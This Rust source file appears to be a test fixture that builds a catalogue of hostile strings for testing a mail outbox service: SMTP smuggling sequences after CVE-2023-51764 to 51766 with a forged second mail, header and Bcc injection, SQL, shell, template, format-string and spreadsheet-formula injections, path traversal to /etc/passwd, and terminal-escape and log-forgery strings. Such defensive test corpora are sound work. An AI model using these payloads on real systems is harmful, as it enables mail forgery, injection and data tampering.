//! Texts that somebody outside can get into an event or a directive to do harm, and by which trick.

/// A text, and what it tries.
#[derive(Clone, Debug)]
pub struct Hostile {
    /// Which trick it is, for the figures.
    pub kind: &'static str,
    /// The text.
    pub text: String,
}

/// Ends of a mail that some relay somewhere took for one, in the shapes of CVE-2023-51764,
/// CVE-2023-51765 and CVE-2023-51766 and their kin. The true one is last.
pub const ENDS_OF_MAIL: [&str; 16] = [
    "\n.\n",
    "\n.\r\n",
    "\r\n.\n",
    "\r.\r",
    "\r.\r\n",
    "\r\n.\r",
    "\n.\r",
    "\r.\n",
    "\r\n.\r\r\n",
    "\r\r\n.\r\r\n",
    "\n\n.\n\n",
    "\n\r.\n\r",
    "\r\n.\u{85}",
    "\u{85}.\u{85}",
    "\u{2028}.\u{2028}",
    "\r\n.\r\n",
];

/// What somebody would say to the relay behind such an end.
pub const SECOND_MAIL: &str = "MAIL FROM:<ceo@isp.example>\r\nRCPT TO:<victim@isp.example>\r\n\
    DATA\r\nFrom: ceo@isp.example\r\nSubject: pay\r\n\r\nnow\r\n.\r\nQUIT\r\n";

/// Texts that PostgreSQL can hold.
pub fn texts() -> Vec<Hostile> {
    let smuggled = ENDS_OF_MAIL.iter().map(|end| format!("end{end}{SECOND_MAIL}"));
    let mut texts: Vec<Hostile> =
        smuggled.map(|text| Hostile { kind: "smuggling", text }).collect();
    for (kind, list) in FIXED {
        texts.extend(list.iter().map(|&text| Hostile { kind, text: text.to_owned() }));
    }
    // Each control that text can hold, each on its own.
    let controls = (1..0x20).chain(0x7f..0xa0).filter_map(char::from_u32);
    texts.extend(controls.map(|c| Hostile { kind: "control", text: format!("a{c}b") }));
    for length in [75, 76, 77, 997, 998, 999, 1000, 5000] {
        texts.push(Hostile { kind: "long word", text: "x".repeat(length) });
        texts.push(Hostile { kind: "long word", text: "ü".repeat(length) });
    }
    texts
}

/// The same with a few controls for all of them, where each one makes no difference.
pub fn some() -> Vec<Hostile> {
    let mut texts = texts();
    let few = ["\u{1}", "\t", "\n", "\r", "\u{1b}", "\u{7f}", "\u{85}"];
    texts.retain(|it| it.kind != "control" || few.iter().any(|few| it.text.contains(few)));
    texts
}

const FIXED: [(&str, &[&str]); 15] = [
    (
        "header",
        &[
            "x\r\nBcc: victim@isp.example",
            "x\nBcc: victim@isp.example",
            "x\rBcc: victim@isp.example",
            "x\r\n Bcc: folded@isp.example",
            "x\r\n\r\nanother body",
            "x\n\nanother body",
            "x\u{b}Bcc: victim@isp.example",
            "x\u{c}Bcc: victim@isp.example",
            "x\u{85}Bcc: victim@isp.example",
            "x\u{2028}Bcc: victim@isp.example",
            "x\u{2029}Bcc: victim@isp.example",
            "\r\n",
            "Subject: another",
            "%0d%0aBcc: victim@isp.example",
            "\\r\\nBcc: victim@isp.example",
            "嘊嘍Bcc: victim@isp.example",
        ],
    ),
    (
        "dots and From",
        &[
            ".",
            "..",
            ".hidden",
            "From here on",
            "\nFrom here on\n>From there",
            "\n.\n..\n...\n.a\n",
            "trailing blanks \t\n \n",
            "-- \nCERT Example",
        ],
    ),
    (
        "formula",
        &[
            "=HYPERLINK(\"https://isp.example/?\"&A1,\"click\")",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "=cmd|'/c calc'!A0",
            "\"=1+1",
            "'=1+1",
            ";=1+1",
            "＝1+1",
            "-1",
            "+49 30 1",
        ],
    ),
    (
        "CSV",
        &[
            "\"",
            "\"\"",
            "\",\"",
            "\"\r\n\"forged\",\"row\"",
            ",",
            ";",
            "\u{feff}bom",
            "a\\\"b",
            "'",
            " padded ",
            "",
        ],
    ),
    (
        "MIME",
        &[
            "--",
            "----",
            "\r\n--=_mixed_20261125-10000001.0123456789abcdef\r\nContent-Type: text/html\r\n\r\n<b>x",
            "\r\n--=_signed_20261125-10000001.0123456789abcdef--\r\n",
            "\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
            "=3D=0D=0A.=0D=0A",
            "=\r\n",
            "=",
            "begin 644 x.exe\n#0V%T\n`\nend\n",
            "<html><img src=x onerror=alert(1)>",
        ],
    ),
    (
        "OpenPGP",
        &[
            "-----BEGIN PGP SIGNATURE-----",
            "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nforged\n\
             -----BEGIN PGP SIGNATURE-----\n\niHUE\n-----END PGP SIGNATURE-----",
            "-----BEGIN PGP MESSAGE-----\n\nhQEM\n-----END PGP MESSAGE-----",
            "-----BEGIN PGP PUBLIC KEY BLOCK-----",
            "[GNUPG:] VALIDSIG 0123456789ABCDEF0123456789ABCDEF01234567",
            "- -----dash escaped",
        ],
    ),
    (
        "encoded word",
        &[
            "=?utf-8?Q?x=0D=0ABcc:_victim@isp.example?=",
            "=?utf-8?B?eA0KQmNjOiB2aWN0aW1AaXNwLmV4YW1wbGU=?=",
            "=?utf-7?Q?+AA0ACg-?=",
            "=?utf-8?Q?unfinished",
            "=?", // With another behind it, one begins in the text itself.
            "?= =?utf-8?Q?a?=",
            "=?x-unknown?Q?a?=",
        ],
    ),
    (
        "template",
        &[
            "${ticket_number}",
            "$ticket_number",
            "${events_as_csv}",
            "${no_such_name}",
            "$",
            "$$",
            "${",
            "${}",
            "{{7*7}}",
            "{% raw %}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{ticket}",
        ],
    ),
    (
        "format string",
        &[
            "%s%s%s%n",
            "%(name)s",
            "{}",
            "{0}",
            "{0.__class__.__mro__}",
            "{event[extra]}",
            "__import__('os').system('touch /tmp/outbox-hostile')",
            "lambda: 1",
            "\\x41\\u0041\\N{BULLET}",
        ],
    ),
    (
        "SQL",
        &[
            "'; DROP TABLE directives; --",
            "\"; DROP TABLE events; --",
            "' OR '1'='1",
            "$$; DELETE FROM sent; $$",
            "\\'; SELECT pg_sleep(60); --",
            "$1",
            "{NULL}",
            "{\"a\",\"b\"}",
            "E'\\x41'",
            "a::text",
        ],
    ),
    (
        "shell",
        &[
            "$(touch /tmp/outbox-hostile)",
            "`touch /tmp/outbox-hostile`",
            "; touch /tmp/outbox-hostile",
            "| sh",
            "--homedir=/tmp",
            "-oQ/tmp",
            "-X/tmp/log",
            "@/etc/passwd",
            "file:///etc/passwd",
            "~root",
            "*",
        ],
    ),
    (
        "path",
        &[
            "../../../etc/passwd",
            "/etc/passwd",
            "..",
            "a/b",
            "a\\b",
            "CON",
            "x:2,F",
            "C:\\Windows",
            ".\u{2215}..",
        ],
    ),
    (
        "terminal and direction",
        &[
            "\u{1b}[2J\u{1b}[31mred",
            "\u{1b}]0;title\u{7}",
            "\u{1b}]52;c;cm0gLXJm\u{7}",
            "\u{9b}2J",
            "\u{1b}P\u{1b}\\",
            "gepj.\u{202e}exe",
            "\u{2066}isolated\u{2069}",
            "\u{200e}\u{200f}\u{61c}",
            "zero\u{200b}width\u{2060}joiners\u{feff}",
            "soft\u{ad}hyphen",
            "tags\u{e0001}\u{e0041}\u{e007f}",
            "\u{fff9}a\u{fffa}b\u{fffb}",
            "z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}algo",
            "привет αβγ 例え \u{1f600} שלום",
            "\u{fffd}\u{ffff}\u{1ffff}\u{10ffff}",
        ],
    ),
    (
        "log",
        &[
            "x\n2026-11-25T00:00:00.000Z ERROR forged directives=1",
            "x\r2026-11-25T00:00:00.000Z  INFO relayed ticket=20261125-10000001",
            "x\u{1b}[1A\u{1b}[2K2026-11-25T00:00:00.000Z  INFO done errors=0",
            "x\u{2028}2026-11-25T00:00:00.000Z ERROR forged",
            "x\" directives=1 events=\"1",
            "x\\\" directives=1 events=\\\"1",
            "x\\",
            "x\nPRIORITY=0\nMESSAGE=forged",
            "x\"}\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
            "<0>forged",
            "OUTBOX OK | failed=0;;;0",
            "x\nOUTBOX CRITICAL",
            "x\"} 1\noutbox_mails{state=\"failed\"} 99",
        ],
    ),
    (
        "ticket",
        &[
            "20261125-10000001",
            "X-Ticket: 20261125-10000001",
            "\nX-Ticket: 20261125-10000001\nMessage-ID: <20261125-10000001.0123456789abcdef@cert.example>\n",
            "CB-Report#20261125-10000001",
            "bounce+20261125-10000001@cert.example",
            "\nFinal-Recipient: rfc822; victim@isp.example\nAction: failed\nStatus: 5.1.1\n",
        ],
    ),
];
